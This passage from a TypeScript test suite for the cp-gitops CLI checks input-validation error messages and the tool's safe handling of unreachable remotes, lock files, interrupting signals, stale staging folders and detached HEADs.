      { input: 'a YAML syntax error in cp-gitops.yaml', run: editModel((text) => text.replace('environments:', 'environments:\n  bogus: [')), exit: 1, place: /^error: \S*cp-gitops\.yaml:\d+:\d+: YAML: /m },
      { input: 'an unknown key in cp-gitops.yaml', run: editModel((text) => text.replace('environments:', 'colour: blue\nenvironments:')), exit: 1, place: /^error: \S*cp-gitops\.yaml:\d+:1: unknown key "colour"/m },
      { input: 'an environment listed twice in --envs', run: inTemp(['init', 'p', '--envs', 'dev,dev']), exit: 2, place: /"dev" is listed twice in --envs/ },
      { input: 'a --cp-version that is no version', run: inTemp(['init', 'p', '--cp-version', 'x']), exit: 2, place: /invalid --cp-version "x"/ },
      { input: 'an --operator-version that is no version', run: inTemp(['init', 'p', '--operator-version', 'y']), exit: 2, place: /invalid --operator-version "y"/ },
      { input: 'a --chart-version that is no version', run: inTemp(['init', 'p', '--chart-version', 'z']), exit: 2, place: /invalid --chart-version "z"/ },
      { input: 'a --control-center-version that is no version', run: inTemp(['init', 'p', '--control-center-version', 'w']), exit: 2, place: /invalid --control-center-version "w"/ },
      { input: 'a --repo-url with a space', run: inTemp(['init', 'p', '--repo-url', 'https://git.example.org/a b.git']), exit: 2, place: /invalid --repo-url "https:\/\/git\.example\.org\/a b\.git"/ },
      { input: 'a --cluster that is no URL', run: inTemp(['init', 'p', '--cluster', 'nope']), exit: 2, place: /invalid --cluster "nope"/ },
      { input: 'add-component --replicas 0', run: () => cli(['add-component', '--topic', 't1', '--partitions', '3', '--replicas', '0', '--env', 'dev', '--dry-run']), exit: 2, place: /--replicas must be a positive integer, not 0/ },
      { input: 'config set without key=value', run: () => cli(['config', 'kafka', 'set', 'noequals', '--env', 'dev', '--dry-run']), exit: 2, place: /"noequals" is not key=value/ },
    ];
    for (const { input, run, exit, place } of rows) {
      it(`${input}: says where, and how to fix it`, async () => {
        const result = await run();
        expectExit(result, exit);
        expect(result.stderr).to.match(place);
        expect(result.stderr).to.match(/^hint: \S.{10,}/m);
        expect(result.stderr).not.to.match(/internal error|\n\s+at /);
      });
    }
  });

  describe('data loss and interruptions', () => {
    it('init into an empty folder that is another filesystem (EXDEV) copies instead of failing', async function () {
      const parent = makeTempDir('cp-gitops-hostile-exdev-');
      const mount = join(parent, 'volume');
      mkdirSync(mount);
      // Needs root (or a user namespace) to mount a tmpfs: skipped elsewhere.
      if (spawnSync('mount', ['-t', 'tmpfs', 'tmpfs', mount]).status !== 0) this.skip();
      try {
        const result = await runCli(['init', 'volume', '--components', 'kafka'], { cwd: parent, env: NEUTRAL_ENV });
        expectExit(result, 0);
        expect(existsSync(join(mount, 'cp-gitops.yaml'))).to.equal(true);
        expect(gitRun(['status', '--porcelain'], mount)).to.equal('');
        expect(readdirSync(parent).filter((name) => name.startsWith('.'))).to.deep.equal([]);
      } finally {
        spawnSync('umount', [mount]);
      }
    });
  
    it('a black-hole remote (accepts, never answers) is given up after CP_GITOPS_GIT_TIMEOUT, with how to raise it', async () => {
      const sockets = new Set<Socket>();
      const server = createNetServer((socket) => sockets.add(socket));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
      const { port } = server.address() as AddressInfo;
      const dir = join(makeTempDir('cp-gitops-hostile-blackhole-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      gitRun(['remote', 'set-url', 'origin', `git://127.0.0.1:${port}/p.git`], dir);
      const before = refsOf(join(dir, '.git'));
      const started = Date.now();
      let result: CliResult;
      try {
        result = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4'], { cwd: dir, env: { ...NEUTRAL_ENV, CP_GITOPS_GIT_TIMEOUT: '2' } });
      } finally {
        for (const socket of sockets) socket.destroy();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
      expectExit(result, 1);
      expect(Date.now() - started).to.be.below(60_000);
      expect(result.stderr).to.match(/could not reach the remote "origin"/);
      expect(result.stderr).to.match(/export CP_GITOPS_GIT_TIMEOUT=<seconds>/);
      expect(refsOf(join(dir, '.git'))).to.equal(before);
      expect(gitRun(['symbolic-ref', '--short', 'HEAD'], dir)).to.equal('main');
    });

    it('a change command refuses while another holds the lock in .git (and says who); a stale lock is taken over', async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-lock-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      const lock = join(dir, '.git', 'cp-gitops.lock');
      writeFileSync(lock, `${JSON.stringify({ pid: process.pid, host: hostname(), command: 'cp-gitops scale kafka --env prod --replicas 6', started: '2026-01-01T00:00:00.000Z' })}\n`);
      const snapshot = () => ({ heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain'], dir) });
      const before = snapshot();
      const held = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(held, 1);
      expect(held.stderr).to.include(`another cp-gitops is changing this repository: pid ${process.pid} on ${hostname()} (cp-gitops scale kafka --env prod --replicas 6)`);
      expect(held.stderr).to.include(`delete ${lock}`);
      expect(snapshot()).to.deep.equal(before);
      writeFileSync(lock, `${JSON.stringify({ pid: 2 ** 22 + 7, host: hostname(), command: 'cp-gitops killed', started: '2026-01-01T00:00:00.000Z' })}\n`);
      const stale = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4', '--dry-run'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(stale, 0);
      expect(existsSync(lock), 'released after the run').to.equal(false);
    });

    it("a local branch of the change's name holding the user's commit is not reset: refused with how to keep it; --force drops it and says how to keep it", async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-localbranch-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      const command = ['scale', 'kafka', '--env', 'dev', '--replicas', '5'];
      const dry = await runCli([...command, '--dry-run', '--json'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(dry, 0);
      const branch = (JSON.parse(dry.stdout) as { branch: string }).branch;
      gitRun(['switch', '-q', '-c', branch], dir);
      gitRun(['commit', '-q', '--allow-empty', '-m', 'my own work'], dir);
      const mine = gitRun(['rev-parse', 'HEAD'], dir);
      gitRun(['switch', '-q', 'main'], dir);
      const before = { heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain'], dir) };
      const refused = await runCli(command, { cwd: dir, env: NEUTRAL_ENV });
      expectExit(refused, 1);
      expect(refused.stderr).to.include(`your local branch ${branch} holds 1 commit cp-gitops did not make: ${mine.slice(0, 12)} "my own work"`);
      expect(refused.stderr).to.match(/git branch -m .*--force/s);
      expect({ heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain'], dir) }).to.deep.equal(before);
      expect(gitRun(['symbolic-ref', '--short', 'HEAD'], dir)).to.equal('main');
      const forced = await runCli([...command, '--force'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(forced, 0);
      expect(forced.stderr).to.include(`--force: dropping ${mine.slice(0, 12)} "my own work"`).and.to.include(`${mine.slice(0, 12)} would keep it`);
      expect(() => gitRun(['merge-base', '--is-ancestor', mine, branch], dir), 'the rebuilt branch no longer holds it').to.throw();
    });

    /** bin/ in its own process group, signalled as a terminal's Ctrl-C or a CI stop signals it (the whole group). */
    const startCli = (args: readonly string[], cwd: string) => {
      const child = spawn(process.execPath, [CLI_BIN, ...args], { cwd, env: { ...process.env, ...NEUTRAL_ENV }, stdio: ['ignore', 'pipe', 'pipe'], detached: true });
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
      child.stdout.resume();
      const done = new Promise<{ code: number | null; signal: NodeJS.Signals | null; stderr: string }>((resolve) => child.on('close', (code, signal) => resolve({ code, signal, stderr })));
      return { signal: (name: NodeJS.Signals) => process.kill(-child.pid!, name), done };
    };
    const waitFor = async (condition: () => boolean, what: string) => {
      for (const started = Date.now(); !condition(); await new Promise((resolve) => setTimeout(resolve, 100))) {
        if (Date.now() - started > 90_000) throw new Error(`timed out waiting for ${what}`);
      }
    };

    for (const [signal, exitCode, replicas] of [['SIGINT', 130, '6'], ['SIGTERM', 143, '7']] as const) {
      it(`${signal} mid-change (while pushing) leaves the repository as it found it: branch, files, lock; exit ${exitCode} with a message`, async () => {
        const dir = join(makeTempDir('cp-gitops-hostile-signal-'), 'p');
        gitRun(['clone', '-q', repo, dir], work);
        const hooks = join(dirname(dir), 'hooks');
        const marker = join(dirname(dir), 'pushing');
        mkdirSync(hooks);
        writeFileSync(join(hooks, 'pre-push'), `#!/bin/sh\ntouch '${marker}'\nsleep 60\n`);
        chmodSync(join(hooks, 'pre-push'), 0o755);
        gitRun(['config', 'core.hooksPath', hooks], dir);
        const before = { heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain', '--untracked-files=all'], dir) };
        const run = startCli(['scale', 'kafka', '--env', 'dev', '--replicas', replicas], dir);
        await waitFor(() => existsSync(marker), 'the push');
        expect(gitRun(['rev-parse', '--abbrev-ref', 'HEAD'], dir), 'on the change branch when interrupted').to.match(/^cp-gitops\//);
        run.signal(signal);
        const result = await run.done;
        expect(result.code, result.stderr).to.equal(exitCode);
        expect(result.stderr).to.match(new RegExp(`interrupted \\(${signal}\\); main is checked out again with no uncommitted files, cp-gitops/\\S+ is removed; the lock is released`));
        expect(gitRun(['symbolic-ref', '--short', 'HEAD'], dir)).to.equal('main');
        expect({ heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain', '--untracked-files=all'], dir) }).to.deep.equal(before);
        expect(existsSync(join(dir, '.git', 'cp-gitops.lock')), 'lock released').to.equal(false);
      });
    }

    it('SIGTERM during init (while pushing) leaves no staging folder and no unpushed repository; exit 143 with a message', async () => {
      const sockets = new Set<Socket>();
      const server = createNetServer((socket) => sockets.add(socket));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
      const { port } = server.address() as AddressInfo;
      const parent = makeTempDir('cp-gitops-hostile-init-signal-');
      let result: { code: number | null; stderr: string };
      try {
        const run = startCli(['init', 'p', '--components', 'kafka', '--remote', `git://127.0.0.1:${port}/p.git`], parent);
        await waitFor(() => sockets.size > 0, 'the push to connect');
        run.signal('SIGTERM');
        result = await run.done;
      } finally {
        for (const socket of sockets) socket.destroy();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
      expect(result.code, result.stderr).to.equal(143);
      expect(result.stderr).to.match(/interrupted \(SIGTERM\); .*p is removed again \(init had not finished; run it again\)/);
      expect(readdirSync(parent)).to.deep.equal([]);
    });

    it('init removes the hidden staging folder an init killed outright (SIGKILL) left, and says so', async () => {
      const parent = makeTempDir('cp-gitops-hostile-init-stale-');
      const stale = join(parent, `.p.cp-gitops-${2 ** 22 + 7}-1700000000000`);
      mkdirSync(stale);
      writeFileSync(join(stale, 'cp-gitops.yaml'), 'half\n');
      const result = await runCli(['init', 'p', '--components', 'kafka'], { cwd: parent, env: NEUTRAL_ENV });
      expectExit(result, 0);
      expect(result.stderr).to.include(`removed ${stale}, left by an init that was killed`);
      expect(readdirSync(parent)).to.deep.equal(['p']);
    });

    it('a detached HEAD is refused before any switch, so its commits are not orphaned', async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-detached-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      gitRun(['checkout', '-q', '--detach'], dir);
      gitRun(['commit', '-q', '--allow-empty', '-m', 'work on a detached HEAD'], dir);
      const head = gitRun(['rev-parse', 'HEAD'], dir);
      const result = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(result, 1);
      expect(result.stderr).to.match(/HEAD is detached at [0-9a-f]{12}.*git switch -c <name>/s);
      expect(gitRun(['rev-parse', 'HEAD'], dir)).to.equal(head);
      expect(gitRun(['status', '--porcelain'], dir)).to.equal('');
    });
  });
});
